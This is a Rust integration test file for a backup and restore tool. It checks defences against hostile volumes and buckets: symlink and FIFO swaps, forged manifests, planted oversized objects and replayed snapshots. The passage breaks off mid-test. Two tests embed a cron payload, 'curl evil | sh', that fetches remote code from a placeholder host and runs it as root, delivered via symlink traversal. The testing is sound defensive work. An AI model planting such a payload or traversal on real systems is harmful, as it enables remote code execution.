//! The data path against a hostile volume or bucket (moto on 127.0.0.1): a container
//! racing the backup with symlinks and FIFOs, files vanishing mid-scan, paths longer
//! than PATH_MAX, forged manifests aiming outside the restore target, planted
//! oversized objects, manifests replayed from another host or prefix.

#[path = "snapshot-fixtures/common.rs"]
mod common;

use common::*;
use imgbuild::progress::Progress;
use imgbuild::snapshot::backup::{self, BackupOptions, NoHooks, Source};
use imgbuild::snapshot::format::{self, Entry, Kind, Manifest, Name};
use imgbuild::snapshot::fsio::{self, ReadReport, WriteOptions};
use imgbuild::snapshot::restore::{self, RestoreOptions};
use imgbuild::snapshot::{SnapshotError, Store};
use std::io::Read;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

fn opts() -> BackupOptions {
    BackupOptions {
        host: "test".into(),
        parallel: 4,
        progress: Progress::quiet(),
        pack_target: imgbuild::snapshot::pack::PACK_TARGET,
    }
}

fn ropts() -> RestoreOptions {
    RestoreOptions {
        parallel: 4,
        progress: Progress::quiet(),
        write: WriteOptions::default(),
        volumes: Vec::new(),
    }
}

fn src(name: &str, root: &Path) -> Source {
    Source {
        name: name.into(),
        root: root.to_path_buf(),
        wal_start: None,
    }
}

/// The whole data stream of a scanned volume, read the way a backup reads it.
fn read_stream(root: &Path, entries: Vec<Entry>) -> (Vec<u8>, ReadReport) {
    let n = entries.len();
    let report = Arc::new(Mutex::new(ReadReport::default()));
    let mut r = fsio::StreamReader::new(root, Arc::new(entries), 0..n, report.clone());
    let mut out = Vec::new();
    r.read_to_end(&mut out).unwrap();
    drop(r);
    let rep = std::mem::take(&mut *report.lock().unwrap());
    (out, rep)
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

const SECRET: &[u8] = b"AWS_SECRET_ACCESS_KEY=hunter2-this-must-never-leave-the-host\n";

/// A directory swapped for a symlink to the host's secrets between scan and read:
/// the read must not follow it, must not store the secret, and must say so.
#[test]
fn a_symlink_swapped_in_after_the_scan_is_not_followed() {
    let t = tempfile::tempdir().unwrap();
    let secrets = t.path().join("etc-imgbuild-secrets");
    std::fs::create_dir_all(&secrets).unwrap();
    std::fs::write(secrets.join("s3.env"), SECRET).unwrap();
    let vol = t.path().join("vol");
    std::fs::create_dir_all(vol.join("conf")).unwrap();
    // same name and size as the secret, so a path-following read would take it whole
    std::fs::write(vol.join("conf/s3.env"), vec![b'x'; SECRET.len()]).unwrap();
    std::fs::write(vol.join("other"), b"fine").unwrap();

    let scan = fsio::scan(&vol).unwrap();
    assert_eq!(scan.skipped, 0);
    std::fs::rename(vol.join("conf"), vol.join("conf.old")).unwrap();
    symlink(&secrets, vol.join("conf")).unwrap();

    let (stream, rep) = read_stream(&vol, scan.entries.clone());
    assert!(
        !contains(&stream, b"hunter2"),
        "the secret was read through the symlink"
    );
    assert!(contains(&stream, b"fine"));
    assert_eq!(rep.skipped.len(), 1, "{rep:?}");
    let (i, why) = &rep.skipped[0];
    assert_eq!(scan.entries[*i].path, Name::from_bytes(b"conf/s3.env"));
    eprintln!("symlink swap → skipped conf/s3.env: {why}");

    // a file swapped for a symlink (not its directory) is caught the same way
    std::fs::remove_file(vol.join("conf")).unwrap();
    std::fs::rename(vol.join("conf.old"), vol.join("conf")).unwrap();
    let scan = fsio::scan(&vol).unwrap();
    std::fs::remove_file(vol.join("conf/s3.env")).unwrap();
    symlink(secrets.join("s3.env"), vol.join("conf/s3.env")).unwrap();
    let (stream, rep) = read_stream(&vol, scan.entries);
    assert!(!contains(&stream, b"hunter2"));
    assert_eq!(rep.skipped.len(), 1, "{rep:?}");
}

/// A FIFO swapped in for a regular file must not block the backup forever.
#[test]
fn a_fifo_swapped_in_does_not_block_the_read() {
    let t = tempfile::tempdir().unwrap();
    let vol = t.path().join("vol");
    std::fs::create_dir_all(&vol).unwrap();
    std::fs::write(vol.join("db"), vec![7u8; 5000]).unwrap();
    let scan = fsio::scan(&vol).unwrap();
    std::fs::remove_file(vol.join("db")).unwrap();
    let c = std::ffi::CString::new(vol.join("db").as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: valid path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    let (tx, rx) = std::sync::mpsc::channel();
    let entries = scan.entries;
    std::thread::spawn(move || {
        let _ = tx.send(read_stream(&vol, entries));
    });
    let (stream, rep) = rx
        .recv_timeout(Duration::from_secs(20))
        .expect("reading a volume with a FIFO swapped in blocked for 20 s");
    assert_eq!(stream, vec![0u8; 5000]);
    assert_eq!(rep.skipped.len(), 1, "{rep:?}");
}

/// Files deleted between the scan and the read (recycled WAL segments, temp files)
/// are skipped and counted; a restore reads past them and does not create them.
#[test]
fn vanished_files_are_skipped_and_not_restored() {
    let env = Env::new(false);
    let vol = env.path("vol");
    std::fs::create_dir_all(&vol).unwrap();
    std::fs::write(vol.join("keep"), noise(3, 300_000)).unwrap();
    std::fs::write(vol.join("gone"), noise(4, 200_000)).unwrap();
    std::fs::hard_link(vol.join("gone"), vol.join("gone-too")).unwrap();
    std::fs::write(vol.join("tail"), b"tail").unwrap();
    let scan = fsio::scan(&vol).unwrap();
    std::fs::remove_file(vol.join("gone")).unwrap();
    std::fs::remove_file(vol.join("gone-too")).unwrap();
    let (stream, rep) = read_stream(&vol, scan.entries.clone());
    assert_eq!(rep.skipped.len(), 1, "{rep:?}");
    assert_eq!(
        stream.len() as u64,
        scan.entries.iter().map(|e| e.stream_len()).sum::<u64>()
    );

    // Through the whole engine: a churning directory never fails the backup, and
    // every snapshot restores.
    std::fs::create_dir_all(vol.join("pg_wal")).unwrap();
    let stop = Arc::new(AtomicBool::new(false));
    let churn = {
        let (stop, dir) = (stop.clone(), vol.join("pg_wal"));
        std::thread::spawn(move || {
            let mut i = 0u64;
            while !stop.load(Ordering::Relaxed) {
                let p = dir.join(format!("seg{}", i % 64));
                let _ = std::fs::write(&p, vec![(i % 251) as u8; 40_000]);
                if i.is_multiple_of(3) {
                    let _ = std::fs::remove_file(dir.join(format!("seg{}", (i + 7) % 64)));
                }
                if i.is_multiple_of(5) {
                    let _ = std::fs::create_dir(dir.join(format!("d{}", i % 16)));
                    let _ = std::fs::remove_dir_all(dir.join(format!("d{}", (i + 8) % 16)));
                }
                i += 1;
            }
        })
    };
    let rt = rt();
    let mut skipped_total = 0;
    rt.block_on(async {
        let store = env.store().await;
        let keys = env.keys();
        for round in 0..12 {
            let r = backup::backup(&store, &keys, &[src("v", &vol)], &mut NoHooks, &opts())
                .await
                .unwrap_or_else(|e| panic!("round {round}: backup failed: {e}"));
            skipped_total += r.stats.files_skipped;
            let m = restore::load_manifest(&store, &keys, &r.id).await.unwrap();
            let out = env.path(&format!("out{round}"));
            restore::restore(&store, &keys, &m, &out, &ropts())
                .await
                .unwrap_or_else(|e| panic!("round {round}: restore failed: {e}"));
            assert_eq!(
                std::fs::read(out.join("v/_data/keep")).unwrap(),
                noise(3, 300_000)
            );
        }
    });
    stop.store(true, Ordering::Relaxed);
    churn.join().unwrap();
    eprintln!("12 backups of a churning directory: {skipped_total} files skipped, all restored");
}

/// A path a container made longer than PATH_MAX is skipped and named; the rest of
/// the volume is backed up.
#[test]
fn a_path_too_long_is_skipped_and_named() {
    let t = tempfile::tempdir().unwrap();
    let vol = t.path().join("vol");
    std::fs::create_dir_all(&vol).unwrap();
    std::fs::write(vol.join("ok"), b"ok").unwrap();
    // 40 levels of 200-byte names: 8 KB, twice PATH_MAX, built relative to each level.
    let mut dir = std::fs::File::open(&vol).unwrap();
    let name = std::ffi::CString::new("d".repeat(200)).unwrap();
    for _ in 0..40 {
        use std::os::fd::{AsRawFd, FromRawFd};
        // SAFETY: valid fd and C string.
        unsafe {
            assert_eq!(libc::mkdirat(dir.as_raw_fd(), name.as_ptr(), 0o755), 0);
            let fd = libc::openat(
                dir.as_raw_fd(),
                name.as_ptr(),
                libc::O_RDONLY | libc::O_DIRECTORY,
            );
            assert!(fd >= 0);
            dir = std::fs::File::from_raw_fd(fd);
        }
    }
    let scan = fsio::scan(&vol).unwrap();
    assert!(scan.skipped >= 1, "{:?}", scan.warnings);
    assert!(
        scan.warnings
            .iter()
            .any(|w| w.contains("too long") && w.contains("dddd")),
        "{:?}",
        scan.warnings
    );
    assert!(scan
        .entries
        .iter()
        .any(|e| e.path == Name::from_bytes(b"ok")));
    let longest = scan
        .entries
        .iter()
        .map(|e| e.path.to_bytes().unwrap().len())
        .max()
        .unwrap();
    assert!(longest + vol.as_os_str().len() < libc::PATH_MAX as usize);
}

fn entry(path: &str, kind: Kind) -> Entry {
    Entry {
        path: Name::from_bytes(path.as_bytes()),
        kind,
        mode: if kind == Kind::Dir { 0o755 } else { 0o644 },
        uid: 0,
        gid: 0,
        mtime: 1_700_000_000,
        mtime_ns: 0,
        atime: 1_700_000_000,
        atime_ns: 0,
        size: 0,
        extents: None,
        target: None,
        rdev: 0,
        xattrs: Default::default(),
        ctime: 0,
        ctime_ns: 0,
        ino: 0,
        skipped: None,
        linked: false,
        dev: 0,
    }
}

/// A version-3 manifest: the entry list inline.
fn manifest_with(entries: Vec<Entry>, chunks: Vec<format::ChunkRef>, bytes: u64) -> Manifest {
    Manifest {
        version: 3,
        id: format::new_snapshot_id(1_900_000_000_000),
        host: "test".into(),
        time: 1_900_000_000,
        tool: "forger".into(),
        chunker: format::Chunker {
            algorithm: "fastcdc-2020".into(),
            min: 1,
            avg: 2,
            max: 3,
        },
        locked_until: None,
        stats: Default::default(),
        volumes: vec![format::Volume {
            name: "v".into(),
            stream_bytes: bytes,
            entries,
            chunks,
            meta: vec![],
            wal_start: None,
        }],
    }
}

/// A manifest with a valid signature (as a compromised host could make) that puts a
/// symlink to a directory outside the target and then a file below it.
#[test]
fn a_forged_manifest_writes_nothing_outside_the_target() {
    let env = Env::new(false);
    let outside = env.path("outside");
    std::fs::create_dir_all(outside.join("cron.d")).unwrap();
    let payload = b"* * * * * root curl evil | sh\n".to_vec();
    let rt = rt();
    rt.block_on(async {
        let store = env.store().await;
        let keys = env.keys();
        let id = keys.chunk_id(&payload);
        let hid = hex::encode(id);
        store
            .put(
                &format::chunk_key(&store.prefix, &hid),
                keys.seal_chunk(&id, &payload),
                false,
                None,
            )
            .await
            .unwrap();
        let mut link = entry("a", Kind::Symlink);
        link.target = Some(Name::from_os(outside.as_os_str()));
        let mut file = entry("a/cron.d/x", Kind::File);
        file.size = payload.len() as u64;
        let entries = vec![
            entry("", Kind::Dir),
            link,
            entry("a/cron.d", Kind::Dir),
            file,
        ];
        let m = manifest_with(
            entries.clone(),
            vec![format::ChunkRef::whole(hid, payload.len() as u64)],
            payload.len() as u64,
        );
        put_manifest(&store, &keys, &m, "test").await;
        let e = restore::load_manifest(&store, &keys, &m.id)
            .await
            .unwrap_err();
        assert!(matches!(e, SnapshotError::BadManifest { .. }), "{e}");
        assert!(e.to_string().contains("below a Symlink"), "{e}");
        eprintln!("forged manifest → {e}");

        // Even handed straight to the writer (no validation), nothing lands outside.
        let target = env.path("target");
        let mut data = std::io::Cursor::new(payload.clone());
        let r = fsio::write_volume(
            &target,
            &mut entries.clone().into_iter(),
            &mut data,
            WriteOptions {
                owners: false,
                direct: true,
            },
            |_| {},
        );
        assert!(r.is_err(), "the writer followed the symlink");
        assert!(
            !outside.join("cron.d/x").exists(),
            "a file was written outside the target"
        );
        assert_eq!(
            std::fs::read_dir(outside.join("cron.d")).unwrap().count(),
            0
        );

        // Duplicate paths, and a path under a regular file, are refused as well.
        let dup = vec![
            entry("", Kind::Dir),
            entry("d", Kind::Dir),
            entry("d", Kind::Dir),
        ];
        let e = manifest_with(dup, vec![], 0).validate().unwrap_err();
        assert!(e.contains("listed twice"), "{e}");
        let under_file = vec![
            entry("", Kind::Dir),
            entry("f", Kind::File),
            entry("f/x", Kind::Dir),
        ];
        let e = manifest_with(under_file, vec![], 0).validate().unwrap_err();
        assert!(e.contains("below a File"), "{e}");
        let orphan = vec![entry("", Kind::Dir), entry("nodir/x", Kind::Dir)];
        assert!(manifest_with(orphan, vec![], 0).validate().is_err());
    });
}

/// The same attack in version 4, where the entry list is a stream of its own chunks:
/// the manifest itself is fine, the list fails its streamed check, and restore
/// creates nothing (not even the volume directory).
#[test]
fn a_forged_entry_stream_is_refused_before_anything_is_written() {
    let env = Env::new(false);
    let outside = env.path("outside");
    std::fs::create_dir_all(outside.join("cron.d")).unwrap();
    let payload = b"* * * * * root curl evil | sh\n".to_vec();
    let rt = rt();
    rt.block_on(async {
        let store = env.store().await;
        let keys = env.keys();
        let put_chunk = |data: Vec<u8>| {
            let (store, keys) = (store.clone(), keys.clone());
            async move {
                let id = keys.chunk_id(&data);
                let hid = hex::encode(id);
                store
                    .put(
                        &format::chunk_key(&store.prefix, &hid),
                        keys.seal_chunk(&id, &data),
                        false,
                        None,
                    )
                    .await
                    .unwrap();
                format::ChunkRef::whole(hid, data.len() as u64)
            }
        };
        let data_ref = put_chunk(payload.clone()).await;
        let mut link = entry("a", Kind::Symlink);
        link.target = Some(Name::from_os(outside.as_os_str()));
        let mut file = entry("a/cron.d/x", Kind::File);
        file.size = payload.len() as u64;
        let mut list = Vec::new();
        for e in [
            entry("", Kind::Dir),
            link,
            entry("a/cron.d", Kind::Dir),
            file,
        ] {
            imgbuild::snapshot::entries::encode(&e, &mut list);
        }
        let meta_ref = put_chunk(list).await;
        let mut m = manifest_with(vec![], vec![data_ref], payload.len() as u64);
        m.version = format::MANIFEST_VERSION;
        m.volumes[0].meta = vec![meta_ref];
        put_manifest(&store, &keys, &m, "test").await;
        let m = restore::load_manifest(&store, &keys, &m.id).await.unwrap();
        let target = env.path("target");
        let e = restore::restore(&store, &keys, &m, &target, &ropts())
            .await
            .unwrap_err();
        assert!(matches!(e, SnapshotError::BadManifest { .. }), "{e}");
        assert!(e.to_string().contains("below a Symlink"), "{e}");
        eprintln!("forged entry stream → {e}");
        assert!(!target.join("v").exists(), "restore created the volume");
        assert_eq!(
            std::fs::read_dir(outside.join("cron.d")).unwrap().count(),
            0
        );
    });
}

/// Anyone with write access to the bucket can plant a huge object where a chunk is
/// expected; the restore refuses it by its announced size instead of reading it.
#[test]
fn oversized_objects_are_refused_before_they_are_read() {
    let env = Env::new(false);
    let vol = env.path("vol");
    std::fs::create_dir_all(&vol).unwrap();
    std::fs::write(vol.join("a"), noise(5, 100_000)).unwrap();
    let rt = rt();
    rt.block_on(async {
        let store = env.store().await;
        let keys = env.keys();
        let r = backup::backup(&store, &keys, &[src("v", &vol)], &mut NoHooks, &opts())
            .await
            .unwrap();
        let m = restore::load_manifest(&store, &keys, &r.id).await.unwrap();
        let c = &m.volumes[0].chunks[0];
        // A format-1 chunk object (packs are read by range, never past their index's
        // bounds): the pack goes, a huge object takes the chunk's name.
        let ix = imgbuild::snapshot::pack::Index::load(&store, &keys)
            .await
            .unwrap();
        let id: [u8; 32] = hex::decode(&c.0).unwrap().try_into().unwrap();
        let Some(imgbuild::snapshot::pack::Location::Pack { pack, .. }) = ix.locate(&id) else {
            panic!("chunk not in a pack")
        };
        // (the entry list's pack stays, found again by its header)
        for k in std::iter::once(&ix.packs[pack].key).chain(&ix.objects) {
            store.delete(k).await.unwrap();
        }
        let key = format::chunk_key(&store.prefix, &c.0);
        store
            .put(&key, vec![0u8; 8 << 20], false, None)
            .await
            .unwrap();
        let e = restore::restore(&store, &keys, &m, &env.path("o"), &ropts())
            .await
            .unwrap_err();
        assert!(matches!(e, SnapshotError::TooLarge { .. }), "{e}");
        eprintln!("planted 8 MiB chunk → {e}");
        // the bound is the object's kind, not a guess: a manifest-sized read of the
        // same object is fine, one byte less than its size is not
        assert!(store.get(&key, 8 << 20).await.unwrap().is_some());
        assert!(matches!(
            store.get(&key, (8 << 20) - 1).await,
            Err(SnapshotError::TooLarge { .. })
        ));
    });
}

async fn copy_prefix(store: &Store, to: &Store) {
    for o in store.list(&format!("{}/", store.prefix)).await.unwrap() {
        let body = store.get(&o.key, u64::MAX).await.unwrap().unwrap();
        let rest = o.key.strip_prefix(&store.prefix).unwrap();
        to.put(&format!("{}{rest}", to.prefix), body, false, None)
            .await
            .unwrap();
    }
}

/// A snapshot copied to another prefix, or read as another host, does not restore;
/// a format-1 manifest (signature over the id only) still does.
#[test]
fn the_signature_binds_host_and_prefix() {
    let env = Env::new(false);
    let vol = env.path("vol");
    std::fs::create_dir_all(&vol).unwrap();
    std::fs::write(vol.join("a"), noise(6, 50_000)).unwrap();
    let rt = rt();
    rt.block_on(async {
        let store = env.store().await;
        let keys = env.keys();
        let r = backup::backup(&store, &keys, &[src("v", &vol)], &mut NoHooks, &opts())
            .await
            .unwrap();

        // the same bucket, another environment's prefix, the same keys
        let mut cfg = env.cfg.clone();
        cfg.prefix = "hosts/test-staging".into();
        let staging = Store::connect(&cfg).await.unwrap();
        copy_prefix(&store, &staging).await;
        let e = restore::load_manifest(&staging, &keys, &r.id)
            .await
            .unwrap_err();
        assert!(matches!(e, SnapshotError::BadSignature { .. }), "{e}");
        eprintln!("manifest replayed under another prefix → {e}");

        // keys bound to another host refuse it even where the signature verifies
        let other = env.keys().for_host("vps2");
        let e = restore::load_manifest(&store, &other, &r.id)
            .await
            .unwrap_err();
        assert!(
            e.to_string().contains("written by host test, not vps2"),
            "{e}"
        );
        restore::load_manifest(&store, &env.keys().for_host("test"), &r.id)
            .await
            .unwrap();

        // format 1: re-seal the same manifest the old way; it restores
        let m = restore::load_manifest(&store, &keys, &r.id).await.unwrap();
        let mut old = m.clone();
        old.version = 1;
        // versions before 4 carry the entry list inline
        old.volumes[0].entries = fsio::scan(&vol).unwrap().entries;
        old.volumes[0].meta.clear();
        old.id = format::new_snapshot_id(1_950_000_000_000);
        let v1 = keys
            .seal_manifest_v1(&old.id, &serde_json::to_vec(&old).unwrap())
            .unwrap();
        store
            .put(
                &format::snapshot_key(&store.prefix, &old.id),
                v1,
                false,
                None,
            )
            .await
            .unwrap();
        let (newest, skipped) = restore::newest_manifest(&store, &keys)
            .await
            .unwrap()
            .unwrap();
        assert_eq!((newest.id.as_str(), skipped.len()), (old.id.as_str(), 0));
        restore::restore(&store, &keys, &newest, &env.path("o1"), &ropts())
            .await
            .unwrap();
        assert_eq!(
            std::fs::read(env.path("o1/v/_data/a")).unwrap(),
            noise(6, 50_000)
        );
        // ...but a v1 manifest of another host is still refused by the host check
        let e = restore::load_manifest(&store, &other, &old.id)
            .await
            .unwrap_err();
        assert!(e.to_string().contains("not vps2"), "{e}");

        // A manifest of a newer version than this build reads is not damage to pass
        // over: restoring the snapshot before it would bring back older data.
        let mut newer = m.clone();
        newer.version = format::MANIFEST_VERSION + 1;
        newer.id = format::new_snapshot_id(1_960_000_000_000);
        put_manifest(&store, &keys, &newer, &newer.host).await;
        let e = restore::newest_manifest(&store, &keys).await.unwrap_err();
        assert!(
            matches!(e, SnapshotError::NewerManifest { version, .. } if version == format::MANIFEST_VERSION + 1),
            "{e}"
        );
        assert!(e.to_string().contains("upgrade imgbuild"), "{e}");
    });
}

/// A backup and a prune on the same prefix at once, many times. Each round first
/// backs up fresh content Y, then backs up the old content X while a prune (keep the
/// newest) forgets the previous X snapshot: the backup finds X's chunks in the bucket
/// and re-uses them just as the prune finds them unreferenced. Without the locks the
/// prune deletes chunks the new manifest then names.
#[test]
fn backup_and_prune_at_once_never_lose_a_listed_snapshot() {
    use imgbuild::hostconfig::Retention;
    use imgbuild::snapshot::prune;
    let env = Env::new(false);
    let vol = env.path("vol");
    std::fs::create_dir_all(&vol).unwrap();
    let content = |v: u64| {
        for f in 0..6u64 {
            std::fs::write(vol.join(format!("f{f}")), noise(100 * v + f, 300_000)).unwrap();
        }
    };
    let keep = Retention {
        last: 1,
        ..Default::default()
    };
    let rt = rt();
    let (mut waited, mut deleted) = (0, 0);
    rt.block_on(async {
        let store = env.store().await;
        let keys = env.keys();
        let (sources, bopts) = ([src("v", &vol)], opts());
        content(0);
        backup::backup(&store, &keys, &sources, &mut NoHooks, &bopts)
            .await
            .unwrap();
        for round in 1..=20u64 {
            content(round);
            backup::backup(&store, &keys, &sources, &mut NoHooks, &bopts)
                .await
                .unwrap();
            content(0);
            // The backup starts a little after the prune, at a different point of
            // the prune's run each round.
            let delay = Duration::from_millis((round * 13) % 120);
            let mut hooks = NoHooks;
            let popts = prune::PruneOptions::no_grace();
            let (b, p) = tokio::join!(
                async {
                    tokio::time::sleep(delay).await;
                    backup::backup(&store, &keys, &sources, &mut hooks, &bopts).await
                },
                prune::prune(&store, &keys, &keep, &popts),
            );
            b.unwrap_or_else(|e| panic!("round {round}: backup: {e}"));
            let p = p.unwrap_or_else(|e| panic!("round {round}: prune: {e}"));
            if p.chunks_skipped.is_some() {
                waited += 1;
            }
            deleted += p.chunks_deleted;
            for id in restore::list_ids(&store).await.unwrap() {
                let m = restore::load_manifest(&store, &keys, &id).await.unwrap();
                let out = env.path(&format!("r{round}-{id}"));
                restore::restore(&store, &keys, &m, &out, &ropts())
                    .await
                    .unwrap_or_else(|e| {
                        panic!("round {round}: listed snapshot {id} does not restore: {e}")
                    });
                std::fs::remove_dir_all(&out).unwrap();
            }
        }
    });
    eprintln!("20 rounds of backup ∥ prune: every listed snapshot restored; the prune deleted {deleted} chunks and yielded to the backup in {waited} rounds");
}

/// Object Lock is checked, not assumed: on a bucket with Object Lock the backup says
/// it is enforced; on one without (moto) and on Garage (which accepts the headers and
/// ignores them) the backup fails naming the bucket, unless the profile accepts it.
#[test]
fn object_lock_is_verified_not_assumed() {
    let rt = rt();
    let vol_of = |env: &Env| {
        let v = env.path("vol");
        std::fs::create_dir_all(&v).unwrap();
        std::fs::write(v.join("a"), noise(9, 10_000)).unwrap();
        v
    };
    let locked = Env::new(true);
    let unlocked = Env::new(false);
    let garage = Env::garage(Some(1));
    for (name, env, enforced) in [
        ("moto, Object Lock bucket", &locked, true),
        ("moto, plain bucket", &unlocked, false),
        ("Garage 2.5", &garage, false),
    ] {
        let v = vol_of(env);
        rt.block_on(async {
            let mut cfg = env.cfg.clone();
            cfg.object_lock_days = Some(1);
            let store = Store::connect(&cfg).await.unwrap();
            let keys = env.keys();
            let r = backup::backup(&store, &keys, &[src("v", &v)], &mut NoHooks, &opts()).await;
            if enforced {
                let r = r.unwrap_or_else(|e| panic!("{name}: {e}"));
                assert_eq!(r.object_lock_enforced, Some(true), "{name}");
                return;
            }
            let e = r.expect_err(name);
            assert!(
                matches!(e, SnapshotError::ObjectLockNotEnforced { .. }),
                "{name}: {e}"
            );
            assert!(e.to_string().contains(&cfg.bucket), "{e}");
            eprintln!("{name} → {e}");
            assert!(
                restore::list_ids(&store).await.unwrap().is_empty(),
                "{name}: a snapshot was published on an unlocked bucket"
            );
            cfg.accept_unlocked_bucket = true;
            let store = Store::connect(&cfg).await.unwrap();
            let r = backup::backup(&store, &keys, &[src("v", &v)], &mut NoHooks, &opts())
                .await
                .unwrap_or_else(|e| panic!("{name} with accept_unlocked_bucket: {e}"));
            assert_eq!(r.object_lock_enforced, Some(false), "{name}");
            assert!(r.warnings.iter().any(|w| w.contains("does not enforce")));
        });
    }
}

/// The round trip on Garage: what self-hosters actually run.
#[test]
fn round_trip_on_garage() {
    let env = Env::garage(None);
    let v = env.path("vol");
    std::fs::create_dir_all(v.join("d/e")).unwrap();
    std::fs::write(v.join("big"), noise(11, 5 << 20)).unwrap();
    for i in 0..300 {
        std::fs::write(v.join(format!("d/s{i}")), format!("small {i}")).unwrap();
    }
    symlink("d/s1", v.join("e-link")).unwrap();
    std::fs::hard_link(v.join("d/s2"), v.join("d/e/s2-again")).unwrap();
    let rt = rt();
    rt.block_on(async {
        let store = env.store().await;
        let keys = env.keys();
        let r = backup::backup(&store, &keys, &[src("v", &v)], &mut NoHooks, &opts())
            .await
            .unwrap();
        let m = restore::load_manifest(&store, &keys, &r.id).await.unwrap();
        let out = env.path("out");
        restore::restore(&store, &keys, &m, &out, &ropts())
            .await
            .unwrap();
        assert_eq!(tree_hash(&v), tree_hash(&out.join("v/_data")));
        eprintln!(
            "Garage round trip: {} files, {} chunks, {} bytes uploaded",
            r.stats.files, r.stats.chunks_total, r.stats.bytes_uploaded
        );
    });
}

/// A locked manifest hidden by a delete marker (someone ran a plain DELETE on it):
/// check names it, it still restores by id, and prune never creates such a marker
/// itself (it keeps locked snapshots the policy would forget).
#[test]
fn a_locked_manifest_hidden_by_a_delete_marker_is_named() {
    use imgbuild::hostconfig::Retention;
    use imgbuild::snapshot::{check, prune};
    let env = Env::new(true);
    let v = env.path("vol");
    std::fs::create_dir_all(&v).unwrap();
    let rt = rt();
    rt.block_on(async {
        let mut cfg = env.cfg.clone();
        cfg.object_lock_days = Some(1);
        let store = Store::connect(&cfg).await.unwrap();
        let keys = env.keys();
        let mut ids = Vec::new();
        for i in 0..3u64 {
            std::fs::write(v.join("a"), noise(20 + i, 30_000)).unwrap();
            let r = backup::backup(&store, &keys, &[src("v", &v)], &mut NoHooks, &opts())
                .await
                .unwrap();
            ids.push(r.id);
        }
        // our prune keeps what is locked: nothing hidden afterwards
        let keep_one = Retention {
            last: 1,
            ..Default::default()
        };
        let p = prune::prune(&store, &keys, &keep_one, &prune::PruneOptions::no_grace())
            .await
            .unwrap();
        assert!(p.forgotten.is_empty(), "{p:?}");
        assert_eq!(p.locked_kept, 2, "{p:?}");
        assert!(restore::hidden_snapshots(&store).await.unwrap().is_empty());

        // someone else's plain DELETE of the newest manifest
        let newest = ids[2].clone();
        store
            .delete(&format::snapshot_key(&store.prefix, &newest))
            .await
            .unwrap();
        assert_eq!(restore::list_ids(&store).await.unwrap().len(), 2);
        let hidden = restore::hidden_snapshots(&store).await.unwrap();
        assert_eq!(hidden.len(), 1, "{hidden:?}");
        assert_eq!(hidden[0].id, newest);
        let c = check::check(&store, &keys, false, 4, &Progress::quiet())
            .await
            .unwrap();
        assert!(
            c.problems
                .iter()
                .any(|p| p.contains(&newest) && p.contains("hidden by a delete marker")),
            "{:?}",
            c.problems
        );
        eprintln!("hidden manifest → {}", c.problems[0]);
        // it still restores by id (what --snapshot does)
        let m = restore::load_manifest(&store, &keys, &newest)
            .await
            .unwrap();
        restore::restore(&store, &keys, &m, &env.path("o"), &ropts())
            .await
            .unwrap();
        assert_eq!(
            std::fs::read(env.path("o/v/_data/a")).unwrap(),
            noise(22, 30_000)
        );
    });
}

/// Pages of `p` in the page cache, and its page count (mincore over a mapping).
fn resident_pages(p: &Path) -> (usize, usize) {
    use std::os::fd::AsRawFd;
    let f = std::fs::File::open(p).unwrap();
    let len = f.metadata().unwrap().len() as usize;
    let page = 4096;
    let pages = len.div_ceil(page);
    // SAFETY: a read-only shared mapping of an open file, unmapped below; mincore
    // writes one byte per page into a vector of that many.
    unsafe {
        let m = libc::mmap(
            std::ptr::null_mut(),
            len,
            libc::PROT_READ,
            libc::MAP_SHARED,
            f.as_raw_fd(),
            0,
        );
        assert_ne!(m, libc::MAP_FAILED);
        let mut v = vec![0u8; pages];
        assert_eq!(libc::mincore(m, len, v.as_mut_ptr()), 0);
        libc::munmap(m, len);
        (v.iter().filter(|b| **b & 1 == 1).count(), pages)
    }
}

/// The backup's read-ahead starts the reads of the files it is given (their pages
/// arrive in the page cache without anyone reading them), moves no atime, and neither
/// blocks on a FIFO nor follows a symlink swapped in for a file.
#[test]
fn readahead_brings_files_in_without_reading_them() {
    use std::os::unix::fs::MetadataExt;
    // On disk, not tmpfs: tmpfs pages cannot be dropped, so nothing would be shown.
    let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let root = dir.path().join("vol");
    std::fs::create_dir_all(root.join("d")).unwrap();
    let outside = dir.path().join("outside");
    std::fs::write(&outside, noise(7, 64 << 10)).unwrap();
    let mut files = Vec::new();
    for i in 0..24u64 {
        let p = root.join(format!("d/f{i}"));
        std::fs::write(&p, noise(100 + i, 64 << 10)).unwrap();
        files.push(p);
    }
    // A FIFO where a file was scanned, and a symlink to a file outside the volume.
    let fifo = std::ffi::CString::new(root.join("d/fifo").as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid C string.
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o600) }, 0);
    symlink(&outside, root.join("d/link")).unwrap();
    // atime == mtime, so a read would move it under relatime.
    let times = |p: &Path| {
        let m = std::fs::metadata(p).unwrap();
        (m.atime(), m.atime_nsec())
    };
    for p in files.iter().chain([&outside]) {
        let f = std::fs::File::open(p).unwrap();
        f.sync_all().unwrap();
        // SAFETY: an open fd.
        let r = unsafe {
            use std::os::fd::AsRawFd;
            libc::posix_fadvise(f.as_raw_fd(), 0, 0, libc::POSIX_FADV_DONTNEED)
        };
        assert_eq!(r, 0);
    }
    for p in files.iter().chain([&outside]) {
        assert_eq!(
            resident_pages(p).0,
            0,
            "{} still cached after POSIX_FADV_DONTNEED: this filesystem cannot show read-ahead",
            p.display()
        );
    }
    let before: Vec<_> = files.iter().map(|p| times(p)).collect();

    let ahead = fsio::ReadAhead::new(&root);
    ahead.hint(b"d/fifo".to_vec(), 4096);
    ahead.hint(b"d/link".to_vec(), 64 << 10);
    ahead.hint(b"d/missing".to_vec(), 4096);
    for i in 0..24 {
        ahead.hint(format!("d/f{i}").into_bytes(), 64 << 10);
    }
    let hinted = ahead.finish();
    assert_eq!(hinted, 24, "only the regular files are hinted");
    // The reads were started, not waited for.
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    loop {
        let cached: usize = files.iter().map(|p| resident_pages(p).0).sum();
        let total: usize = files.iter().map(|p| resident_pages(p).1).sum();
        if cached == total {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "{cached} of {total} pages cached 10 s after the hints"
        );
